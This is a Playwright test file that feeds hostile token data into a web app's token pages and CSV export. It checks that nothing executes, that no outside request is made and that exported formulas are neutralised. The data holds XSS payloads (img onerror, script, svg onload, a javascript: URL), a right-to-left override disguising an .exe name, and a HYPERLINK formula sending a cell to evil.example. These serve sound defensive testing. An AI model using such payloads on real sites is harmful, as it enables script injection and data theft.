import { readFileSync } from 'node:fs';
import { expect, type Page } from '@playwright/test';
import Papa from 'papaparse';
import { expectNoOverflow, signIn, tagOfLook, test, withoutRendering } from './desk.ts';

/** What hostile markup would leave on the window, had it run. */
const RAN = '__ran';

/** Ten thousand letters behind markup and a mark that turns the direction of the text round. */
const NAME = `<img src=x onerror="window.${RAN}=1"><script>window.${RAN}=2</script>\u202Egnp.exe ${'W'.repeat(10_000)}`;
const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")';
const SYMBOL = `"><svg/onload=window.${RAN}=3>`;

/** Addresses of images that must not be requested. */
const IMAGES = [
  `javascript:window.${RAN}=4`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="parent.${RAN}=5"/>`,
  'http://evil.example/tracked.png',
  'https://name:password@evil.example/tracked.png',
];

type Token = Record<string, unknown>;

/** Makes tokens hostile on their way to the browser: the first of a list, and the same token elsewhere. */
async function makeTokensHostile(page: Page): Promise<string[]> {
  const ids: string[] = [];
  const spoil = (token: Token): void => {
    const id = String(token._id);
    if (!ids.includes(id) && ids.length < IMAGES.length) ids.push(id);
    const nth = ids.indexOf(id);
    if (nth >= 0)
      Object.assign(token, { name: nth === 1 ? FORMULA : NAME, symbol: SYMBOL, image: IMAGES[nth] });
  };
  await page.route(/\/v1\/api\/tokens?(\/|\?|$)/, async (route) => {
    const answer = await route.fetch();
    const body = await answer.json();
    for (const token of body.data.tokens ?? [body.data]) spoil(token);
    await route.fulfill({ response: answer, json: body });
  });
  return ids;
}

/** Collects requests to other hosts; images over https get an empty answer. */
async function watchStrangers(page: Page, own: string): Promise<string[]> {
  const strangers: string[] = [];
  page.on('dialog', (dialog) => {
    strangers.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('popup', (popup) => strangers.push(`popup ${popup.url()}`));
  page.on('request', (request) => {
    const { origin, protocol, hostname } = new URL(request.url());
    const isImage =
      protocol === 'https:' && request.resourceType() === 'image' && hostname !== 'evil.example';
    if (origin !== own && protocol !== 'blob:' && !isImage) strangers.push(request.url());
  });
  const picture = '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>';
  await page.route(/^https:/, (route) => route.fulfill({ contentType: 'image/svg+xml', body: picture }));
  return strangers;
}

/** Expects that the hostile name is shown as text, shortened to fit, and that nothing ran. */
async function expectUnharmed(page: Page, strangers: string[]): Promise<void> {
  await expect(page.locator('main')).toContainText('<img src=x onerror=');
  const seen = await page.evaluate((ran) => {
    const longest = (texts: (string | null)[]) => Math.max(...texts.map((text) => text?.length ?? 0));
    const main = document.querySelector('main') as HTMLElement;
    return {
      ran: ran in window,
      strange: main.querySelectorAll('script, iframe, [onerror], [onload], img:not([src^="https://"])')
        .length,
      longest: longest([...main.querySelectorAll('h1, a, bdi, button')].map((node) => node.textContent)),
      title: document.title.length,
      turned: /\u202E/.test(`${document.title}${main.innerText.split('Raw JSON')[0]}`),
    };
  }, RAN);
  expect(seen).toMatchObject({ ran: false, strange: 0, turned: false });
  expect(seen.longest).toBeLessThan(500);
  expect(seen.title).toBeLessThan(500);
  expect(strangers).toEqual([]);
  await expectNoOverflow(page);
}

/** Expects that a hostile record takes no more room than an honest one. */
async function expectAsHighAs(page: Page, selector: string): Promise<void> {
  const places = page.locator(selector);
  await expect(places.nth(10)).toBeVisible();
  const heights = await places.evaluateAll((nodes) =>
    nodes.map((node) => node.getBoundingClientRect().height),
  );
  const honest = Math.max(...heights.slice(IMAGES.length));
  expect(Math.max(...heights.slice(0, IMAGES.length))).toBeLessThanOrEqual(honest + 1);
}

for (const width of [1440, 390]) {
  const tag = tagOfLook('light', width);
  test(`a hostile token harms nothing on any page, ${width} wide`, tag, async ({ page, baseURL }) => {
    test.slow();
    const ids = await makeTokensHostile(page);
    const strangers = await watchStrangers(page, baseURL ?? '');
    await page.setViewportSize({ width, height: 900 });
    await withoutRendering(page);
    await signIn(page, 'Crestline', '/tokens');
    const record = width < 768 ? 'main section[aria-label] > ul > li' : 'main tbody tr[data-index]';

    await expectUnharmed(page, strangers);
    await expect(page.getByText(/^All \d+ active tokens\./)).toBeVisible();
    await expectAsHighAs(page, record);
    const star = page.getByRole('button', { name: /^Watch <img/ }).first();
    // The watchlist is the person's, in every browser: another width may have starred it.
    if ((await star.getAttribute('aria-pressed')) !== 'true')
      await Promise.all([page.waitForResponse(/\/desk\/watchlist\/./), star.click()]);

    await page.goto('/tokens?name=a');
    await expect(page.getByText(/tokens found\./)).toBeVisible();
    await expectUnharmed(page, strangers);
    await page.goto('/tokens?status=all&currency=NGN');
    await expect(page.getByText(/^\d+ of 240 tokens\./)).toBeVisible();
    await page.goto('/tokens?status=all');
    await expect(page.getByText('All 240 tokens.')).toBeVisible();
    await expectUnharmed(page, strangers);

    await page.goto('/tokens?view=watchlist');
    await expectUnharmed(page, strangers);

    await page.goto(`/tokens/${ids[0]}`);
    await expect(page.getByRole('region', { name: 'As collateral' })).toContainText(/eligible/i);
    await expectUnharmed(page, strangers);

    await page.goto(`/tokens/compare?ids=${ids.join(',')}`);
    await expect(page.getByRole('button', { name: /^Remove / })).toHaveCount(ids.length);
    await expectUnharmed(page, strangers);
    await page.getByRole('checkbox', { name: 'Show differences only' }).check();
    await expectUnharmed(page, strangers);
  });
}

test('a hostile token comes out of the export as it is, and nothing in it is run', async ({
  page,
  baseURL,
}) => {
  await makeTokensHostile(page);
  const strangers = await watchStrangers(page, baseURL ?? '');
  await signIn(page, 'Crestline', '/tokens');
  await expectUnharmed(page, strangers);
  await expect(page.getByText(/^All \d+ active tokens\./)).toBeVisible();
  await page.getByRole('button', { name: 'Export', exact: true }).click();
  const dialog = page.getByRole('dialog');
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    dialog.getByRole('button', { name: /^Export \d+ active tokens$/ }).click(),
  ]);
  const text = readFileSync(await download.path(), 'utf8').replace(/^\uFEFF/, '');
  const { data, errors } = Papa.parse<string[]>(text, { skipEmptyLines: true });
  expect(errors).toEqual([]);
  const cells = data.flat();
  expect(cells).toContain(NAME);
  expect(cells).toContain(`'${FORMULA}`);
  expect(cells.filter((cell) => cell.startsWith('=') || cell.startsWith('@'))).toEqual([]);
  expect(strangers).toEqual([]);
});
